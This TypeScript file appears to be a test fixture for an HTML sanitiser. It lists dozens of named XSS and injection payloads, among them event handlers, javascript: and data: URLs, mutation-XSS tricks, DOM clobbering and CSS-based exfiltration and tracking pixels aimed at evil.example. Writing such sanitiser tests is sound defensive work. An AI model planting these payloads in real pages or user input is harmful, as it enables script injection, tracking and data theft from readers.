/**
 * What a hostile page may put around and into an article, by name. Each payload that runs calls
 * `ran('NAME')`; each that loads something asks `https://evil.example/NAME`. Written for this project,
 * after the classes of vectors that sanitisers are tested with.
 */

const load = (name: string) => `https://evil.example/${name}`;
const run = (name: string) => `ran('${name}')`;

export const payloads: Readonly<Record<string, string>> = {
	script: `<script>${run('script')}</script>`,
	'script-src': `<script src="${load('script-src')}"></script>`,
	'script-split': `<scr<script>ipt>${run('script-split')}</script>`,
	'script-in-svg': `<svg><script>${run('script-in-svg')}</script></svg>`,
	'script-in-math': `<math><script>${run('script-in-math')}</script></math>`,
	'image-error': `<p>Look: <img src="x:" onerror="${run('image-error')}"> here.</p>`,
	'image-unquoted': `<img src=x: onerror=${run('image-unquoted')}//`.concat('>'),
	'image-slash': `<img/src="x:"/onerror="${run('image-slash')}">`,
	'svg-onload': `<svg onload="${run('svg-onload')}"><circle r="9"/></svg>`,
	'svg-animate': `<svg><a><animate attributeName="href" values="javascript:${run('svg-animate')}"/><text y="20">Go on</text></a></svg>`,
	'svg-use': `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x'><script>${run('svg-use')}</script></svg>#x"/></svg>`,
	'svg-foreign': `<svg><foreignObject><iframe srcdoc="<script>parent.${run('svg-foreign')}</script>"></iframe></foreignObject></svg>`,
	'details-toggle': `<details open ontoggle="${run('details-toggle')}"><summary>More</summary>Text</details>`,
	'input-autofocus': `<input autofocus onfocus="${run('input-autofocus')}">`,
	'body-onload': `<body onload="${run('body-onload')}" onpageshow="${run('body-onload')}">`,
	'media-error': `<video><source onerror="${run('media-error')}" src="x:"></video><audio src="x:" onerror="${run('media-error')}"></audio>`,
	'marquee-start': `<marquee onstart="${run('marquee-start')}">News</marquee>`,
	'link-javascript': `<p>Read <a href="javascript:${run('link-javascript')}">the whole statement</a> of the port.</p>`,
	'link-spaced': `<p>Read <a href=" \u0001java\tscript\n:${run('link-spaced')}">the statement</a> of the port.</p>`,
	'link-entities': `<p>Read <a href="&#106;avascript&colon;${run('link-entities')}">the statement</a> of the port.</p>`,
	'link-data': `<p>Read <a href="data:text/html,<script>${run('link-data')}</script>">the statement</a> of the port.</p>`,
	'link-blob': `<p>Read <a href="blob:https://news.example/${'0'.repeat(36)}">the statement</a> of the port.</p>`,
	'link-vbscript': `<p>Read <a href="vbscript:${run('link-vbscript')}">the statement</a> of the port.</p>`,
	'link-opener': `<p>Read <a href="${load('link-opener')}" target="_blank" rel="opener" ping="${load('link-opener-ping')}">the statement</a> of the port.</p>`,
	'link-svg': `<svg><a xlink:href="javascript:${run('link-svg')}"><text y="20">The statement</text></a></svg>`,
	'link-math': `<math href="javascript:${run('link-math')}"><mtext>The statement</mtext></math>`,
	'image-javascript': `<img src="javascript:${run('image-javascript')}" width="600" height="400">`,
	'image-svg-data': `<img width="600" height="400" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icmFuKCkiLz4=">`,
	'frame-srcdoc': `<iframe srcdoc="<script>parent.${run('frame-srcdoc')}</script>"></iframe>`,
	'frame-javascript': `<iframe src="javascript:parent.${run('frame-javascript')}"></iframe>`,
	'frame-data': `<iframe src="data:text/html,<script>parent.${run('frame-data')}</script>"></iframe>`,
	'object-data': `<object data="javascript:${run('object-data')}"></object><embed src="javascript:${run('object-data')}">`,
	'mutation-noscript': `<noscript><p title="</noscript><img src=x: onerror=${run('mutation-noscript')}>"></p></noscript>`,
	'mutation-math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run('mutation-math')}&gt;"></style></mglyph></table></mtext></math>`,
	'mutation-svg': `<svg></p><style><a id="</style><img src=x: onerror=${run('mutation-svg')}>"></style></svg>`,
	'mutation-template': `<template><img src=x: onerror=${run('mutation-template')}></template>`,
	'mutation-textarea': `<textarea><img src=x: onerror=${run('mutation-textarea')}></textarea>`,
	'mutation-comment': `<!--[if gte IE 4]><img src=x: onerror=${run('mutation-comment')}><![endif]--><p>After</p>`,
	'text-markup': `<p>“They wrote &lt;img src=x: onerror=${run('text-markup')}&gt; and &lt;script&gt;${run('text-markup')}&lt;/script&gt; on the wall,” said Anna Lindqvist.</p>`,
	'shadow-declarative': `<div><template shadowrootmode="open"><img src=x: onerror=${run('shadow-declarative')}><slot></slot></template><p>Inside of a shadow</p></div>`,
	'custom-element': `<x-hostile><p>Inside of a custom element</p></x-hostile>`,
	base: `<base href="https://evil.example/base/">`,
	'meta-refresh': `<meta http-equiv="refresh" content="9999;url=javascript:${run('meta-refresh')}">`,
	'meta-csp': `<meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests">`,
	'style-injection': `<style>* { color: red } [data-outspoken-reader] { display: none !important } @import "${load('style-import')}";</style>`,
	'style-exfiltration': `<style>p[class^="a"] { background: url("${load('style-exfiltration')}") }</style>`,
	'style-attribute': `<p style="background:url('${load('style-attribute')}');position:fixed;inset:0">The quay is covered.</p>`,
	'pixel-sized': `<img src="${load('pixel-sized')}" width="1" height="1">`,
	'pixel-styled': `<img src="${load('pixel-styled')}" style="width:1px;height:1px">`,
	'pixel-noscript': `<noscript><img src="${load('pixel-noscript')}" width="1" height="1" alt=""></noscript>`,
	'pixel-hidden': `<img src="${load('pixel-hidden')}" hidden><img src="${load('pixel-hidden')}" style="display:none">`,
	'link-prefetch': `<link rel="prefetch" href="${load('link-prefetch')}"><link rel="stylesheet" href="${load('link-stylesheet')}">`,
	'clobber-form': `<form name="querySelector"><input name="attributes"><input name="nodeType"><input name="nextSibling"><input name="parentNode"><input name="firstChild"><p>Inside of a form</p></form>`,
	'clobber-document': `<img name="implementation"><img name="createElement"><img name="documentElement"><img name="getElementById"><img name="body"><form id="defaultView"></form>`,
	'bidi-override': `<p>“The gate stays shut,” said \u202EavonavI airaM\u202C, the keeper of the gate.</p>`,
	formula: `<p>“=2+5;=3 is what the sheet will say about the tide,” said Olga Brandt, the clerk of the port.</p>`,
	'null-bytes': `<p>A \u0000 and a \ud800 lone half of a letter \u{10ffff} \ufffe.</p>`,
};

/**
 * Every payload that does not by itself undo the page for the others. A field that hears of the focus is
 * told of it by the browser each time a popup closes, whoever opened it.
 */
export const together = Object.entries(payloads)
	.filter(
		([name]) =>
			!/^(?:base|clobber-document|formula|input-autofocus|meta-|style-injection|null-bytes)/.test(
				name,
			),
	)
	.map(([, html]) => html)
	.join('\n');
